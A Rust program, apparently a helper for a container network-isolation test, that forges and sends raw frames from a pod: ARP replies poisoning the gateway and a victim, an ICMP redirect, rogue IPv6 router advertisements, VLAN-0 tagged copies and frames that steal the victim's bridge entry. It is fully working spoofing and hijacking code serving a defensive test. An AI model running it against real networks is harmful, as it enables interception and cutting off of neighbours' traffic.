//! Sends what a pod could take over the traffic of its neighbours and of the node with, from a raw socket, for which the
//! default capabilities suffice. Compiled by the test that runs it in a container: see `network_attacks.rs`.
//!
//! Arguments: the pod's own address, the gateway's, a victim's, and a UDP port on the gateway.

use std::ffi::{c_int, c_void};
use std::fs;
use std::time::Duration;

const PACKET: c_int = 17;
const RAW: c_int = 3;
/// `ETH_P_ALL` in network order.
const ALL: u16 = 3_u16.to_be();

#[repr(C)]
struct Address {
    family: u16,
    protocol: u16,
    index: c_int,
    hardware: u16,
    kind: u8,
    length: u8,
    address: [u8; 8],
}

unsafe extern "C" {
    fn socket(domain: c_int, kind: c_int, protocol: c_int) -> c_int;
    fn sendto(fd: c_int, bytes: *const c_void, length: usize, flags: c_int, to: *const Address, size: u32) -> isize;
}

type Ip = [u8; 4];
type Mac = [u8; 6];

const IPV4: u16 = 0x0800;
const ARP: u16 = 0x0806;
const IPV6: u16 = 0x86dd;
const REPLY: u8 = 2;
const ICMP: u8 = 1;
const UDP: u8 = 17;
const EVERYBODY: Mac = [0xff; 6];
const ALL_IPV6_NODES: Mac = [0x33, 0x33, 0, 0, 0, 1];
/// Reserved by 802.1D: a bridge passes such frames to the protocols of the port itself.
const PORT: Mac = [0x01, 0x80, 0xc2, 0, 0, 0x02];

/// The network derives hardware addresses from others.
fn mac([a, b, c, d]: Ip) -> Mac {
    [0x0a, 0x58, a, b, c, d]
}

fn frame(to: Mac, from: Mac, kind: u16, payload: &[u8]) -> Vec<u8> {
    [&to, &from, kind.to_be_bytes().as_slice(), payload].concat()
}

/// An answer nobody asked for: `address` is at `at`.
fn arp(to: Ip, source: Mac, address: Ip, at: Mac) -> Vec<u8> {
    let fixed = [0, 1, 8, 0, 6, 4, 0, REPLY];
    let body = [&fixed[..], &at, &address, &mac(to), &to].concat();
    frame(mac(to), source, ARP, &body)
}

fn checksum(bytes: &[u8]) -> [u8; 2] {
    let mut sum: u32 = bytes
        .chunks(2)
        .map(|pair| u32::from(u16::from_be_bytes([pair[0], *pair.get(1).unwrap_or(&0)])))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    (!(sum as u16)).to_be_bytes()
}

fn ipv4(from: Ip, to: Ip, protocol: u8, payload: &[u8]) -> Vec<u8> {
    let length = (20 + payload.len() as u16).to_be_bytes();
    let mut header = vec![0x45, 0, length[0], length[1], 0, 1, 0, 0, 64, protocol, 0, 0];
    header.extend(from);
    header.extend(to);
    let sum = checksum(&header);
    header[10..12].copy_from_slice(&sum);
    header.extend(payload);
    header
}

/// Without a checksum, which UDP allows.
fn udp(port: u16) -> Vec<u8> {
    let [high, low] = port.to_be_bytes();
    vec![0x30, 0x39, high, low, 0, 9, 0, 0, b'!']
}

fn icmp(mut message: Vec<u8>) -> Vec<u8> {
    let sum = checksum(&message);
    message[2..4].copy_from_slice(&sum);
    message
}

/// From the gateway to the victim: reach `destination` through `through`.
fn redirect(victim: Ip, destination: Ip, through: Ip) -> Vec<u8> {
    let echo = icmp(vec![8, 0, 0, 0, 0, 1, 0, 1]);
    let mut message = vec![5, 1, 0, 0];
    message.extend(through);
    message.extend(ipv4(victim, destination, ICMP, &echo));
    icmp(message)
}

/// A router that has a prefix for everybody (RFC 4861, 4.2).
fn advertisement(own: Mac) -> Vec<u8> {
    let mut source = vec![0xfe, 0x80, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xbd];
    let destination = [&[0xff, 0x02][..], &[0; 13], &[1]].concat();
    let mut message = vec![134, 0, 0, 0, 64, 0, 0x07, 0x08, 0, 0, 0, 0, 0, 0, 0, 0];
    message.extend([1, 1]);
    message.extend(own);
    message.extend([3, 4, 64, 0xc0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
    message.extend([0x20, 0x01, 0x0d, 0xb8, 0x0b, 0xad, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
    let length = message.len() as u8;
    let pseudo = [&source, &destination, &[0, 0, 0, length, 0, 0, 0, 58][..], &message].concat();
    let sum = checksum(&pseudo);
    message[2..4].copy_from_slice(&sum);
    let mut packet = vec![0x60, 0, 0, 0, 0, length, 58, 255];
    packet.append(&mut source);
    packet.extend(destination);
    packet.extend(message);
    packet
}

/// The same with a tag for VLAN 0, which receivers take for none.
fn tagged(frame: &[u8]) -> Vec<u8> {
    [&frame[..12], &[0x81, 0, 0, 0], &frame[12..]].concat()
}

fn main() {
    let arguments: Vec<String> = std::env::args().skip(1).collect();
    let ip = |at: usize| -> Ip { arguments[at].parse::<std::net::Ipv4Addr>().unwrap().octets() };
    let (own, gateway, victim) = (ip(0), ip(1), ip(2));
    let port = arguments[3].parse().unwrap();
    let us = mac(own);
    let forged = [
        arp(gateway, us, victim, us),
        arp(victim, us, gateway, us),
        arp(victim, mac(gateway), gateway, us),
        frame(mac(gateway), us, IPV4, &ipv4(victim, gateway, UDP, &udp(port))),
        frame(mac(victim), us, IPV4, &ipv4(gateway, victim, ICMP, &redirect(victim, [203, 0, 113, 1], own))),
        frame(ALL_IPV6_NODES, us, IPV6, &advertisement(us)),
        frame(mac(gateway), us, IPV6, &advertisement(us)),
        frame(PORT, us, IPV6, &advertisement(us)),
    ];
    // After these the bridge looks for the victim here, and sends it nothing any more.
    let last = [
        arp(gateway, mac(victim), victim, us),
        frame(EVERYBODY, mac(victim), IPV4, &ipv4(own, [255; 4], UDP, &udp(port))),
    ];
    let honest = frame(mac(gateway), us, IPV4, &ipv4(own, gateway, UDP, &udp(port)));

    let text = fs::read_to_string("/sys/class/net/eth0/ifindex").unwrap();
    let to = Address {
        family: PACKET as u16,
        protocol: ALL,
        index: text.trim().parse().unwrap(),
        hardware: 0,
        kind: 0,
        length: 6,
        address: [0; 8],
    };
    let fd = unsafe { socket(PACKET, RAW, c_int::from(ALL)) };
    assert!(fd >= 0, "socket: {}", std::io::Error::last_os_error());
    let send = |frame: &[u8]| {
        let sent = unsafe { sendto(fd, frame.as_ptr().cast(), frame.len(), 0, &to, size_of::<Address>() as u32) };
        assert!(sent > 0, "sendto: {}", std::io::Error::last_os_error());
    };
    // Several times: the kernel does not believe a new answer within a second of the last.
    for _ in 0..8 {
        for frame in &forged {
            send(&tagged(frame));
            send(frame);
        }
        std::thread::sleep(Duration::from_millis(250));
    }
    send(&honest);
    last.iter().for_each(|frame| send(frame));
    println!("sent");
}
